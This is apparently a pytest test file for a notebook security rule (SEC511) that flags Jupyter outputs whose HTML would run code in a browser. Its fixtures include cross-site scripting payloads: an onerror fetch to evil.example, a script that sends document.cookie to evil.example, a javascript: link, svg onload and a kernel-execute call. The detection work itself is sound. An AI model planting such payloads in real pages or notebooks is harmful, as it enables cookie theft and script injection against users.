"""SEC511: notebooks that would act in a browser."""

from __future__ import annotations

import pytest
from tests.make.notebooks import code, notebook
from tests.make.revisions import judged, revision

FAILING = revision({"a.ipynb": notebook(code("x", text_html="<img src=x onerror=\"fetch('//evil.example')\">"))})
_TABLE = (
    '<div id="df-1"><style>b {}</style><button class="c" onclick="convertToInteractive(\'df-1\')"></button>'
    "<script>const b = document.querySelector('#df-1 button'); google.colab.kernel.invokeFunction('x');</script></div>"
)
_CHART = "<script>window.PlotlyConfig = {MathJaxConfig: 'local'}; document.cookie</script>"
PASSING = revision({"a.ipynb": notebook(code("df", text_html=_TABLE), code("fig", text_html=_CHART))})


@pytest.mark.parametrize(
    "html",
    [
        "<script>new Image().src='//evil.example/?' + document.cookie</script>",
        "<a href='javascript:alert(1)'>x</a><script></script>",
        "<svg/onload=alert(1)>",
        "<script>Jupyter.notebook.kernel.execute('import os')</script>",
    ],
)
def test_ways_to_act(html):
    assert judged("SEC511", revision({"a.ipynb": notebook(code("x", text_html=html))}))
